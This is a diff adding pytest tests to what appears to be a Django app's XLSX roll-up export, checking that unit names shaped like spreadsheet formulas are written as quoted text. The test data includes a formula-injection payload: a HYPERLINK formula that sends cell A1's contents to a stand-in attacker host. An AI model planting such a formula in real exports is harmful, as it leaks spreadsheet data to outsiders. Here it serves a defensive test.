@@ -192,3 +192,37 @@ def test_forgot_password_answers_alike_for_known_and_unknown_accounts(world):
     ]
     masked = {re.sub(r"[A-Za-z0-9]{64}", "<csrf>", page) for page in pages}  # the tokens, masked per page
     assert len(masked) == 1
+
+
+FORMULAS = ['=HYPERLINK("http://ke-gian.example/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(1)", "=1+1"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_unit_named_like_a_formula_is_text_in_the_roll_up_workbook(world, name):
+    """The roll-up XLSX lists the units by the names the office typed: none runs as a formula."""
+    import io
+
+    import openpyxl
+
+    type(world.cell_b).objects.filter(pk=world.cell_b.pk).update(short_name=name)
+    client = Client()
+    client.force_login(world.users["secretary"])
+    response = client.get(f"/cam-ket/tong-hop/{world.committee.pk}/?xlsx=1")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == name]
+    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]
+
+
+def test_safe_row_leaves_numbers_and_plain_text_alone():
+    from openpyxl import Workbook
+
+    from chuyende.common.exports import safe_row
+
+    sheet = Workbook(write_only=True).create_sheet()
+    row = safe_row(sheet, ["Chi bộ", 12, -3, 0.5, None, "=A1", "- gạch đầu dòng"])
+    assert row[:5] == ["Chi bộ", 12, -3, 0.5, None]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in row[5:]] == [
+        ("=A1", "s", True),
+        ("- gạch đầu dòng", "s", True),
+    ]
